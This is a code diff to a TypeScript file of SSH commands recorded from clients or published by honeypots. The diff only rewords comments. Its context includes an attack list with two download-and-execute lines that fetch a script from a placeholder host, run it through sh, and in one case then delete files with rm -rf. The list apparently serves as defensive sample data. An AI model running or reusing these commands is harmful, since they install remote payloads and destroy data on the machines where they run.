@@ -1,6 +1,6 @@
-/* What clients ask an SSH server to run: recorded, or as honeypots have published it. */
+/* Commands that clients send to SSH servers: recorded, or published by honeypots. */
 
-/** Of visitors who mistype, or whose programs look for something that is not here. */
+/** From visitors who mistype, or whose programs look for something that is not here. */
 export const ordinaryCommands: readonly string[] = [
 	'wrok',
 	'work 99',
@@ -40,7 +40,7 @@ export const ordinaryCommands: readonly string[] = [
 	'tmux new -A -s main',
 ];
 
-/** Of programs that try to take a machine over. */
+/** From programs that try to take over a machine. */
 export const attackCommands: readonly string[] = [
 	'cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.1/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf *',
 	'(wget -qO - http://192.0.2.1/x||curl -s http://192.0.2.1/x)|sh',
